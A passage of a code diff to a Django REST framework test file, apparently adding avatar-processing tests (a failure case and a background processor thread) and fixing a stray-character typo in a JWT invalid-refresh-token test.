+        self.assertIsNone(self.client.get(reverse('accounts:user-info')).data['profile']['avatar'])
+
+        profile = UserProfile.objects.get(user=self.user)
+        source = os.path.join(self.media_root, profile.avatar.name)
+        self.assertTrue(os.path.exists(source))
+        with mock.patch('accounts.avatars.render_variants', side_effect=OSError('broken')):
+            self.assertFalse(process_avatar(profile.pk))
+        profile.refresh_from_db()
+        self.assertEqual(profile.avatar_status, UserProfile.AVATAR_FAILED)
+        self.assertFalse(profile.avatar)
+        self.assertFalse(os.path.exists(source))
+        data = self.client.get(self.url).data
+        self.assertEqual((data['avatar'], data['avatar_status']), (None, 'failed'))
+
+    def test_background_processor(self):
+        """测试后台线程处理头像"""
+        with override_settings(AVATAR_PROCESSING_ASYNC=True), mock.patch('accounts.avatars.get_processor'):
+            self._upload(make_image())
+        profile = UserProfile.objects.get(user=self.user)
+        processor = AvatarProcessor()
+        with mock.patch('accounts.avatars.close_old_connections'), \
+                mock.patch('accounts.avatars.process_avatar') as process:
+            processor.submit(profile.pk)
+            processor.join()
+        process.assert_called_once_with(profile.pk)
+
+
 class JWTTokenTest(APITestCase):
     """JWT Token测试"""
     
@@ -259,7 +2410,7 @@ class JWTTokenTest(APITestCase):
     
     def test_token_refresh_invalid(self):
         """测试无效token刷新"""
-        data = {'refresh': 'invalid_token'}3131313
+        data = {'refresh': 'invalid_token'}
         response = self.client.post(self.refresh_url, data)
         
         self.assertEqual(response.status_code, status.HTTP_401_UNAUTHORIZED)